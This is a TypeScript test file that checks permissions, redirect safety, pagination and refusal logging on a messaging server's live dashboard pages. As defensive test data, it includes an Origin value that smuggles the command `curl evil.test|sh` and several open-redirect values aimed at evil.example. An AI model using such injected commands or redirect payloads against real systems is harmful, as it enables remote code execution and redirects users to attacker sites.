/** The live pages without a browser: who may see and do what. */
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'bun:test'
import { Clients, known } from '../support/ably.ts'
import { Client, upgradeAnswer } from '../support/client.ts'
import { freshChannel, reserve } from '../support/itty.ts'
import { type TestServer, latchkey, startTestServer } from '../support/server.ts'
import { PASSWORD, DashboardUser, tokenIn } from './dashboard-user.ts'

let server: TestServer
let owner: DashboardUser
let key: string
let appId: string
const clients = new Clients(() => server)

beforeAll(async () => {
  server = await startTestServer({
    'max-reservations': '0',
    'allowed-origins': 'https://good.test',
  })
  owner = await DashboardUser.owner(server)
  key = await known(server, server.addKey())
  appId = key.split('.')[0]!
})
afterEach(() => clients.end())
afterAll(() => server.end())

const rest = (channel: string, body: object) =>
  fetch(`${server.url}/channels/${channel}/messages`, {
    method: 'POST',
    headers: { authorization: `Basic ${btoa(key)}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })

describe('another account', () => {
  let member: DashboardUser
  let own: string

  beforeAll(async () => {
    member = await otherAccount()
    own = freshChannel()
  })

  /** An owner of another account. */
  async function otherAccount(): Promise<DashboardUser> {
    await latchkey(['accounts', 'add', 'team', '--data', server.folder])
    const reset = await latchkey(['accounts', 'reset', 'team', '--data', server.folder])
    const visitor = new DashboardUser(server)
    const token = tokenIn(reset.out)
    await visitor.post('/claim', { token, email: 'tom@example.com', password: PASSWORD })
    return visitor.ready()
  }

  test('sees no channels and connections of others', async () => {
    const name = freshChannel()
    const client = await Client.join(server.sockets + name)
    const ably = await clients.connected({ key, clientId: 'kiosk' })
    await ably.channels.get(name).attach()
    for (const path of ['/live', '/live/connections', '/live/refusals']) {
      const { status, text } = await member.get(path)
      expect([path, status]).toEqual([path, 200])
      expect(text).not.toContain(name)
      expect(text).not.toContain('127.0.0.1')
    }
    for (const query of [`name=${name}`, `name=${name}&app=${appId}`]) {
      for (const part of ['channel', 'channel/people', 'channel/connections'])
        expect((await member.get(`/live/${part}?${query}`)).status).toBe(404)
    }
    await member.post('/live/publish', { channel: name, data: '1' })
    await member.post('/live/disconnect', { channel: name })
    await member.post('/live/disconnect', { channel: name, app: appId })
    await member.post('/live/disconnect', { id: ably.connection.id! })
    expect(ably.connection.state).toBe('connected')
    client.sendJson('still here')
    expect(client.closed).toBeUndefined()
    expect(client.frames.some((frame) => frame['message'] === 1)).toBe(false)
    client.close()
  })

  test('sees what happens below its own names', async () => {
    await member.post('/reservations', { namespace: own, send: 'on' })
    const client = await Client.join(`${server.sockets}${own}/x`)
    expect((await member.get('/live')).text).toContain(`${own}/x`)
    expect((await member.get(`/live/channel?name=${own}/x`)).status).toBe(200)
    await fetch(`${server.url}/push/${own}/x`, { method: 'POST', body: '1' })
    expect((await member.get('/live/refusals')).text).toContain(`${own}/x`)
    client.close()
  })
})

describe('a viewer', () => {
  test('may look, but not publish or disconnect', async () => {
    const name = freshChannel()
    const viewer = await owner.invite('viewer', 'vic@example.com')
    const client = await Client.join(server.sockets + name)
    const { status, text } = await viewer.get(`/live/channel?name=${name}`)
    expect(status).toBe(200)
    expect(text).not.toContain('Publish')
    expect(text).not.toContain('Disconnect')
    expect((await viewer.post('/live/publish', { channel: name, data: '1' })).status).toBe(403)
    expect((await viewer.post('/live/disconnect', { channel: name })).status).toBe(403)
    expect(client.closed).toBeUndefined()
    client.close()
  })
})

describe('without scripts', () => {
  test('publishing and disconnecting work', async () => {
    const name = freshChannel()
    const client = await Client.join(server.sockets + name)
    const published = await owner.post('/live/publish', { channel: name, data: '{"a":1}' })
    expect(published.location).toBe(`/live/channel?name=${name}`)
    await client.message({ a: 1 })
    await owner.post('/live/publish', { channel: name, data: 'no JSON' })
    await client.message('no JSON')
    expect((await owner.get(`/live/channel?name=${name}`)).text).toContain('Published to 1 reader.')
    const tooMuch = await owner.post('/live/publish', { channel: name, data: 'x'.repeat(110_000) })
    expect([tooMuch.status, tooMuch.text.includes('The message is too large.')]).toEqual([
      400,
      true,
    ])
    const asked = await owner.get(`/live/disconnect?channel=${name}`)
    expect(asked.text).toContain('1 connection now.')
    const back = `/live/channel?name=${name}`
    expect((await owner.post('/live/disconnect', { channel: name, back })).location).toBe(back)
    expect((await client.closing()).code).toBe(1008)
    const trail = (await owner.get(`/audit?text=${name}`)).text
    expect(trail).toContain('Published to the channel')
    expect(trail).toContain('Disconnected the channel')
  })

  test('the way back leads to a live page only', async () => {
    for (const back of ['//evil.example', '/live\\@evil', 'https://evil.example', '/account']) {
      const { location } = await owner.post('/live/disconnect', { id: 'none', back })
      expect(location).toBe('/live')
    }
  })

  test('kept messages are shown page by page', async () => {
    const name = freshChannel()
    for (let i = 0; i < 35; i++) await rest(name, { data: `message ${i}.` })
    const newest = await owner.get(`/live/channel?name=${name}&app=${appId}`)
    expect(newest.text).toContain('message 34.')
    expect(newest.text).not.toContain('message 4.')
    const older = /href="\/dashboard([^"]+after=[^"]+)"/.exec(newest.text)![1]!
    expect((await owner.get(older.replaceAll('&amp;', '&'))).text).toContain('message 4.')
  })
})

describe('refusals', () => {
  const refusals = async () => (await owner.get('/live/refusals')).text
  const knock = (origin: string) => upgradeAnswer(server.sockets + freshChannel(), { origin })

  test('say why, how often, and what would let an origin in', async () => {
    for (let i = 0; i < 3; i++) await knock('https://shop.test')
    const text = await refusals()
    expect(text).toContain('3 times')
    expect(text).toContain('--allowed-origins &#39;https://good.test,https://shop.test&#39;')
    expect(text).toContain('LATCHKEY_ALLOWED_ORIGINS=')
  })

  test('propose no origin for a shell that no browser sends', async () => {
    const origin = `https://x.test';curl evil.test|sh;'`
    await knock(origin)
    const text = await refusals()
    expect(text).toContain('evil.test|sh')
    expect(text).not.toContain(`good.test,https://x.test`)
  })

  test('include messages, without their content', async () => {
    const name = freshChannel()
    await reserve(server, name, { sendKey: 's' })
    const client = await Client.join(server.sockets + name)
    for (let i = 0; i < 2; i++) client.sendJson(`said anyway ${i}`)
    client.sendDirect('nobody-of-that-name', 'psst')
    await client.until(() => (client.frames.length > 3 ? true : undefined))
    client.close()
    const text = await refusals()
    expect(text).toContain('Send key required.')
    expect(text).toMatch(new RegExp(`/live/channel\\?name=${name}"[^>]*>${name}</a>`))
    expect(text).toContain('3 times')
    for (const said of ['said anyway', 'psst', 'nobody-of-that-name'])
      expect(text).not.toContain(said)
  })

  test('contain no key and no query', async () => {
    const name = freshChannel()
    await reserve(server, name, { joinKey: 'the-right-one' })
    await upgradeAnswer(`${server.sockets}${name}?joinKey=the-wrong-one`)
    await upgradeAnswer(`${server.url}/?key=${key.slice(0, -4)}abcd&v=3`)
    await fetch(`${server.url}/channels/x/messages?key=${key.slice(0, -4)}abcd`)
    const text = await refusals()
    expect(text).toContain(name)
    for (const secret of ['the-right-one', 'the-wrong-one', key.slice(-12, -4)])
      expect(text).not.toContain(secret)
  })
})
